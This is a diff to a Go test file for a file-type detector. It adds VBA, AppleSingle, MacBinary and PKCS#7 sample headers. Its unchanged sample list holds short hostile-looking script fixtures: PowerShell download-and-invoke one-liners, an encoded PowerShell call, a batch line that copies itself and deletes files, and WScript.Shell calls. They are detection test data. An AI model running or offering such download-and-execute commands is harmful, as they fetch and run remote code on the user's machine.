@@ -179,6 +179,7 @@ func samples(t testing.TB) []sample {
 		{"eml", "Received: from a by b\r\nFrom: a@b.example\r\nSubject: x\r\n\r\nhi"}, {"mbox", "From a@b.example Mon Jan  1 00:00:00 2024\nFrom: a\nTo: b\n\nhi"},
 		{"js", "var a = new ActiveXObject(\"WScript.Shell\");\na.Run('x');\n"}, {"js", "const a = 1;\nlet b = 2;\nwindow.open(a);\n"}, {"js", "(function(){var a=1;eval(String.fromCharCode(65));})();"}, {"js", wideText("var a = new ActiveXObject('x');", true)}, {"js", "#!/usr/bin/env node\nx"},
 		{"vbs", "On Error Resume Next\r\nDim a, b\r\nSet a = CreateObject(\"WScript.Shell\")\r\n"}, {"vbs", "Sub Foo()\nDim x\nEnd Sub\n"}, {"vbs", "#@~^eAAAAA==abc"},
+		{"text", "Attribute VB_Name = \"Module1\"\r\nSub Foo()\r\nDim x\r\nEnd Sub\r\n"},
 		{"ps1", "$a = New-Object Net.WebClient\n$b = $a.DownloadString('http://x.example')\nInvoke-Expression $b\n"}, {"ps1", "IEX (New-Object Net.WebClient).DownloadString('x')"}, {"ps1", "param(\n[string]$x\n)\nWrite-Host \"$x\"\nGet-ChildItem $env:TEMP"},
 		{"bat", "@echo off\r\nset a=b\r\n"}, {"bat", "rem x\r\nset a=1\r\ngoto end\r\n:end\r\n"}, {"bat", "powershell -enc AAAA"}, {"bat", "start /b x\r\ncopy %0 c:\\x\r\ndel c:\\y"},
 		{"sh", "#!/bin/sh\necho x"}, {"python", "#!/usr/bin/python3\n"}, {"python", "import os\n\ndef f(a):\n    return a\n"}, {"perl", "use strict;\nmy $a = 1;\n"}, {"php", "<?php echo 1;"}, {"json", "{ \"a\": 1 }"}, {"json", "[{\"a\":1}]"},
@@ -189,6 +190,7 @@ func samples(t testing.TB) []sample {
 		{"ics", "BEGIN:VCALENDAR\r\n"}, {"vcard", "BEGIN:VCARD\r\n"}, {"pem", "-----BEGIN CERTIFICATE-----\nMII"}, {"pgp", "-----BEGIN PGP MESSAGE-----\n"}, {"uu", "begin 644 a.exe\nM35"},
 		{"p7s", "\x30\x80\x06\x09\x2A\x86\x48\x86\xF7\x0D\x01\x07\x02\xA0\x80\x30\x80\x02\x01\x01\x31\x0F\x30\x0B\x06\x09\x2A\x86\x48\x86\xF7\x0D\x01\x07\x01"},
 		{"p7m", "\x30\x82\x10\x00\x06\x09\x2A\x86\x48\x86\xF7\x0D\x01\x07\x03\xA0\x82"}, {"binhex", "(This file must be converted with BinHex 4.0)\n"},
+		{"applefile", "\x00\x05\x16\x07\x00\x02\x00\x00"}, {"applefile", macBinary()}, {"p7m", "\x30\x80\x06\x0B\x2A\x86\x48\x86\xF7\x0D\x01\x09\x10\x01\x09\xA0\x80"},
 		{"jp2", "\x00\x00\x00\x0CjP  \x0D\x0A\x87\x0A\x00"},
 		{"text", wideText("Guten Tag, anbei die Rechnung.", true)}, {"text", "Gr\xFC\xDFe aus K\xF6ln\n"}, {"text", "MZ is what programs begin with, but this is only a letter about them, and long enough."},
 	}
@@ -219,6 +221,15 @@ func TestDetect(t *testing.T) {
 			t.Errorf("no sample of type %q", typ.Name)
 		}
 	}
+}
+
+// macBinary is the head of a MacBinary file.
+func macBinary() string {
+	b := make([]byte, 256)
+	copy(b[1:], "\x06read.meTEXT")
+	copy(b[65:], "TEXTttxt")
+	b[86], b[122], b[123] = 5, 129, 129
+	return string(b)
 }
 
 // TestProse holds letters that speak of code, commands and mail; none of them runs.
